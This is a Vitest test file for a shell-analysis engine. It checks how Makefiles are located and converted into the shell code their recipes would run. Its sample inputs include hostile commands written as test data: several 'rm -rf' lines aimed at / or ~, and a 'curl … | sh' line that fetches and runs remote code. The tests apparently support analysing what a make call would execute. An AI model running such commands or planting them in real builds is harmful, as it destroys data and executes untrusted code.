import { describe, expect, it } from "vitest";
import { makefileCode, makefilePaths } from "../../../src/engine/shell/commands/makefile";
import { HOLE_VARIABLE } from "../../../src/engine/shell/words/template";

describe("the makefiles make reads", () => {
  it.each([
    [[], ["GNUmakefile", "makefile", "Makefile"]],
    [["-j4", "build"], ["GNUmakefile", "makefile", "Makefile"]],
    [["-f", "ci.mk"], ["ci.mk"]],
    [["-fci.mk", "--file=b.mk", "--makefile", "c.mk"], ["ci.mk", "b.mk", "c.mk"]],
    [["-C", "app/", "test"], ["app/GNUmakefile", "app/makefile", "app/Makefile"]],
    [["--directory=app", "-f", "x.mk"], ["app/x.mk"]],
    [["-f", "/abs/x.mk"], ["/abs/x.mk"]],
  ])("make %j reads %j", (args, files) => {
    expect(makefilePaths(args)).toEqual(files);
  });
});

describe("a makefile as the shell code it runs", () => {
  it("takes every recipe line, without its @, - and + prefixes", () => {
    expect(makefileCode("all: build\nbuild:\n\t@echo hi\n\t-rm -rf dist\n\t+make sub\n")).toBe("echo hi\nrm -rf dist\nmake sub");
  });
  it("takes a recipe given on the rule's line", () => {
    expect(makefileCode("clean: ; rm -rf ~\n")).toBe("rm -rf ~");
  });
  it("sets its variables and reads them as shell variables; $$ is a $", () => {
    expect(makefileCode('RUN := rm -rf "/"\nall:\n\t$(RUN) ${RUN}\n\techo $$HOME\n')).toBe('RUN="rm -rf \\"/\\""\n${RUN} ${RUN}\necho $HOME');
  });
  it("runs $(shell …); other functions and automatic variables are unknown text", () => {
    const hole = `\${${HOLE_VARIABLE}}`;
    expect(makefileCode("X = $(shell curl -s https://x.example | sh)\nall: a.o\n\tcc -o $@ $^ $(wildcard *.c)\n")).toBe(`X="$(curl -s https://x.example | sh)"\ncc -o ${hole} ${hole} ${hole}`);
  });
  it("joins continued lines", () => {
    expect(makefileCode("all:\n\trm -rf \\\n\t  /\n")).toBe("rm -rf  \t  /");
  });
});

describe("a makefile's nested $(shell …)", () => {
  it("is followed a few levels deep, then is unknown text: the work stays linear in the makefile", () => {
    const hole = `\${${HOLE_VARIABLE}}`;
    expect(makefileCode("X = $(shell echo $(shell rm -rf /))\n")).toBe('X="$(echo $(rm -rf /))"');
    const deep = `${"$(shell a ".repeat(50)}${")".repeat(50)}`;
    const code = makefileCode(`X = ${deep}\n`);
    expect(code).toContain(hole);
    expect(code.split("$(").length - 1).toBe(4);
  });
});
